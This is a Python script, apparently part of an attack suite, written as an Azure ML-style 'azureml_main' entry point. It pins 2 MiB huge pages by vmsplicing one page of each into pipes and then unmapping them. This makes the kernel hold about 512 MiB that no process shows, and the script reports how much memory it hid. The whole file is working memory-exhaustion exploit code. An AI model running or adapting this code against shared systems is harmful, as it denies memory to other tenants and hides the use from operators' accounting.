"""Puts one page of each huge page into a pipe and gives the huge page back: the kernel keeps all of it (512 MiB)."""

import ctypes
import os
import time

from attack import LIBC, exhausting

LIBC.mmap.restype = ctypes.c_void_p
LIBC.vmsplice.restype = ctypes.c_ssize_t
HUGE = 2 << 20


class Piece(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def free():
    with open("/proc/meminfo") as stream:
        return next(int(line.split()[1]) for line in stream if line.startswith("MemAvailable"))


def pin(pipe):
    area = LIBC.mmap(None, ctypes.c_size_t(2 * HUGE), 3, 0x22, -1, ctypes.c_long(0))
    start = (area + HUGE - 1) // HUGE * HUGE
    LIBC.madvise(ctypes.c_void_p(start), ctypes.c_size_t(HUGE), 14)
    ctypes.memset(start, 1, HUGE)
    done = LIBC.vmsplice(pipe, ctypes.byref(Piece(start, 4096)), ctypes.c_ulong(1), 2)
    number = ctypes.get_errno()
    LIBC.munmap(ctypes.c_void_p(area), ctypes.c_size_t(2 * HUGE))
    if done < 0:
        raise OSError(number, os.strerror(number), "vmsplice")


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    before, held = free(), []
    for number in range(256):
        if number % 15 == 0:
            held.append(os.pipe())
        pin(held[-1][1])
    time.sleep(0.7)
    taken = (before - free()) >> 10
    return f"holds about {taken} MiB that no process shows" if taken > 300 else ""
